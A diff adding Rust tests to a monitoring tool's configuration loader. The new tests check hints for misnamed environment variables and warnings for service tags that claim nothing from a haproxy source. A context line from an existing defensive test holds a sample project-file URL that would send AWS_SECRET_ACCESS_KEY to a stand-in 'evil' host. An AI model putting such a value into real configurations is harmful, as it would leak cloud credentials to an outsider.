@@ -171,6 +171,30 @@ fn a_project_file_is_not_trusted_with_secrets_sources_or_safety() {
 }
 
 #[test]
+fn a_variable_that_would_set_nothing_is_told() {
+    let mut world = World::new()
+        .variable("FLIGHTDECK_SAFETY_READ_ONLY", "true")
+        .variable("FLIGHTDECK_SOURCES_PROM_URL", "http://x")
+        // These are not settings.
+        .variable("FLIGHTDECK_STATE", "/x")
+        .variable("FLIGHTDECK_VIEWER", "less");
+    world.inputs.garbled =
+        ["FLIGHTDECK_VIEW__THEME", "FLIGHTDECK_STATE", "OTHER"].map(str::to_owned).into();
+    let hint = "two underscores between section and key";
+    assert_eq!(
+        world.faults(),
+        format!(
+            "environment variable FLIGHTDECK_SAFETY_READ_ONLY: sets nothing\n    \
+             write FLIGHTDECK_SAFETY__READ_ONLY: {hint}\n\
+             environment variable FLIGHTDECK_SOURCES_PROM_URL: sets nothing\n    \
+             write FLIGHTDECK_SOURCES__PROM_URL: {hint}\n\
+             environment variable FLIGHTDECK_VIEW__THEME: is not UTF-8 text\n\
+             3 faults in the configuration"
+        )
+    );
+}
+
+#[test]
 fn a_project_file_takes_nothing_from_the_environment() {
     let evil = "[sources.x]\nkind = \"prometheus\"\n\
                 url = \"https://evil/?k=${AWS_SECRET_ACCESS_KEY}\"\n\
@@ -267,6 +291,27 @@ fn a_secret_that_everybody_can_read_is_warned_about() {
     assert_eq!(warnings[0].key, "sources.p.auth.bearer");
     std::fs::set_permissions(file.path(), std::fs::Permissions::from_mode(0o600)).unwrap();
     assert!(load_text("x.toml", &text, &[]).unwrap().warnings().is_empty());
+}
+
+#[test]
+fn tags_that_can_claim_nothing_are_warned_about() {
+    let text = |more: &str| {
+        format!(
+            "[sources.edge]\nkind = \"haproxy\"\naddress = \"tcp://127.0.0.1:1\"\n\
+             [services.shop]\ntags = {{ team = \"shop\" }}\n{more}"
+        )
+    };
+    let warnings = load_text("x.toml", &text(""), &[]).unwrap().warnings();
+    let told: Vec<String> = warnings.iter().map(ToString::to_string).collect();
+    assert_eq!(
+        told,
+        [
+            "x.toml:5:8: services.shop.tags: they claim nothing of `edge`: a source of kind haproxy has \
+          no tags\n    name what belongs to it: traffic = [\"edge/…\"]"
+        ]
+    );
+    let named = load_text("x.toml", &text("traffic = [\"edge/be_shop\"]\n"), &[]).unwrap();
+    assert!(named.warnings().is_empty());
 }
 
 #[test]
